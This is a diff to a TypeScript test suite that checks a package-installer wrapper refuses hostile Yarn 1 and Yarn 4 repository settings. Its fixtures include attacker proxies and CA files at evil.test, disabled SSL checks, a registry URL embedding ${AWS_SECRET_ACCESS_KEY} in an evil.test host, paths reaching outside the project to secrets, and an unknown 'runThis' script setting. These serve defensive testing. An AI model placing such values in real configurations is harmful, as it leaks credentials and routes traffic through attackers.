@@ -45,11 +45,12 @@ async function assertRefused(
   { project, open }: ManagerSuite,
   files: Readonly<Record<string, FileBody>>,
   named: RegExp,
+  code = 'QM_PROJECT_HOOKS',
 ): Promise<void> {
   const app = project(files);
   const before = app.read('package.json');
   const operation = await install(await open(app), 'fx-tiny');
-  assert.equal(operation.error?.code, 'QM_PROJECT_HOOKS', JSON.stringify(operation.error));
+  assert.equal(operation.error?.code, code, JSON.stringify(operation.error));
   assert.match(operation.error.message, named);
   assert.deepEqual([app.read('package.json'), app.exists('node_modules')], [before, false]);
 }
@@ -97,12 +98,12 @@ describe('a hostile repository with Yarn 1', () => {
   });
 
   it('forces nothing by its settings', async () => {
-    const app = project({ '.yarnrc': 'force true\nstrict-ssl false\n' });
+    const app = project({ '.yarnrc': 'force true\n' });
     assertInstalled(await install(await open(app), 'fx-tiny'));
     const locked = app.read('yarn.lock');
     const manifest = app.readJson('package.json');
     app.write('package.json', { ...manifest, dependencies: { 'fx-tiny': '^1.2.0', '@fx/core': '^1.0.0' } });
-    await assert.rejects(manager.driver.install(driverContext(manager, app), never), { code: 'QM_MANAGER_FAILED' });
+    await assert.rejects(manager.driver.install(driverContext(manager, app), never), { code: 'QM_LOCKFILE_STALE' });
     assert.equal(app.read('yarn.lock'), locked);
   });
 
@@ -120,6 +121,8 @@ describe('a hostile repository with Yarn 1', () => {
     for (const name of ['node_modules', 'yarn.lock']) app.delete(name);
     app.write('yarn.lock', '');
     app.write('package.json', { name: 'app', private: true });
+    // Where it is set, it is the user's own choice, and wins.
+    delete process.env['YARN_CACHE_FOLDER'];
     assertInstalled(await install(await open(app), 'fx-tiny'));
     assert.match(app.read('node_modules/fx-tiny/index.js'), /fx-tiny@1\.2\.0/);
   });
@@ -156,8 +159,7 @@ describe('a hostile repository with Yarn 1', () => {
     ['cache-folder', '.yarnrc', String.raw`"cache\u002dfolder" "/tmp/x"`],
     ['global-folder', '.yarnrc', 'global-folder ../x'],
     ['yarn-offline-mirror', '.yarnrc', 'yarn-offline-mirror "~/mirror"'],
-    ['yarn-offline-mirror', '.npmrc', '"yarn-offline-mirror" = ${HOME}/mirror'],
-    ['cafile', '.npmrc', 'cafile = C:\\ca.pem'],
+    ['yarn-offline-mirror', '.npmrc', '"yarn-offline-mirror" = ${YARN_HOME}/mirror'],
   ];
   for (const [setting, file, line] of outside) {
     it(`uses no files outside by ${line} in ${file}`, async () => {
@@ -179,17 +181,24 @@ describe('a hostile repository with Yarn 1', () => {
     await assertRefused(
       suite,
       { 'yarn.lock': lockfile, '.npmrc': npmrc },
-      /"\/\/evil\.test\/:_authToken" in \.npmrc .* another host/,
+      /"\/\/evil\.test\/:_authToken" in \.npmrc .* secrets/,
     );
     const own = `${npmrc}@corp:registry=https://evil.test/\n`;
     const app = project({ 'yarn.lock': lockfile, '.npmrc': own });
     assertInstalled(await install(await open(app), 'fx-tiny'));
   });
 
-  it('stands between us and every registry by no proxy that it vouches for itself', async () => {
-    const yarnrc = 'https-proxy "http://evil.test"\ncafile "./ca.pem"\n';
-    await assertRefused(suite, { '.yarnrc': yarnrc, 'ca.pem': 'x' }, /"https-proxy" in \.yarnrc/);
-  });
+  for (const line of [
+    'https-proxy "http://evil.test"',
+    'cafile "./ca.pem"',
+    'strict-ssl false',
+    'registry "http://${HOME}.test"',
+  ]) {
+    it(`does not stand between us and every registry by ${line}`, async () => {
+      const [setting = ''] = line.split(' ');
+      await assertRefused(suite, { '.yarnrc': `${line}\n`, 'ca.pem': 'x' }, new RegExp(`"${setting}" in \\.yarnrc`));
+    });
+  }
 
   it('changes nothing from a folder above', async () => {
     const app = project({
@@ -392,7 +401,6 @@ describe('a hostile repository with Yarn 4', () => {
     ['pnpUnpluggedFolder', { pnpUnpluggedFolder: '../unplugged' }],
     ['pnpmStoreFolder', { pnpmStoreFolder: '${HOME}/store' }],
     ['injectEnvironmentFiles', { injectEnvironmentFiles: ['.env.yarn?', '../../secrets?'] }],
-    ['httpsKeyFilePath', { networkSettings: { '*.test': { httpsKeyFilePath: '/etc/key.pem' } } }],
   ];
   for (const [setting, more] of outside) {
     it(`uses no files outside by ${setting}`, async () => {
@@ -410,7 +418,7 @@ describe('a hostile repository with Yarn 4', () => {
     await assertRefused(
       suite,
       { 'yarn.lock': lockfile('https://evil.test/x.tgz') },
-      /"@corp\/x" in yarn\.lock .* another host/,
+      /"@corp\/x" in yarn\.lock .* secrets/,
     );
     const scoped = configured({ npmScopes: { corp: { npmRegistryServer: 'https://npm.corp.test' } } });
     await assertRefused(suite, { 'yarn.lock': lockfile('https://evil.test/x.tgz'), '.yarnrc.yml': scoped }, /@corp/);
@@ -418,8 +426,24 @@ describe('a hostile repository with Yarn 4', () => {
     assertInstalled(await install(await open(app), 'fx-tiny'));
   });
 
-  it('stands between us and every registry by no proxy that it vouches for itself', async () => {
-    const more = { httpsProxy: 'http://evil.test', networkSettings: { '**': { httpsCaFilePath: './ca.pem' } } };
-    await assertRefused(suite, { '.yarnrc.yml': configured(more), 'ca.pem': 'x' }, /"httpsProxy" in \.yarnrc\.yml/);
+  const between: readonly (readonly [setting: string, more: object])[] = [
+    ['httpsProxy', { httpsProxy: 'http://evil.test' }],
+    ['httpsCaFilePath', { httpsCaFilePath: './ca.pem' }],
+    ['networkSettings', { networkSettings: { '**': { httpProxy: 'http://evil.test' } } }],
+    ['npmRegistryServer', { npmRegistryServer: 'https://${AWS_SECRET_ACCESS_KEY}.evil.test' }],
+  ];
+  for (const [setting, more] of between) {
+    it(`does not stand between us and every registry by ${JSON.stringify(more)}`, async () => {
+      await assertRefused(suite, { '.yarnrc.yml': configured(more) }, new RegExp(`"${setting}" in \\.yarnrc\\.yml`));
+    });
+  }
+
+  it('has no setting that nobody knows', async () => {
+    await assertRefused(
+      suite,
+      { '.yarnrc.yml': configured({ runThis: './evil.js' }) },
+      /"runThis" in \.yarnrc\.yml/,
+      'QM_MANAGER_UNSUPPORTED',
+    );
   });
 });
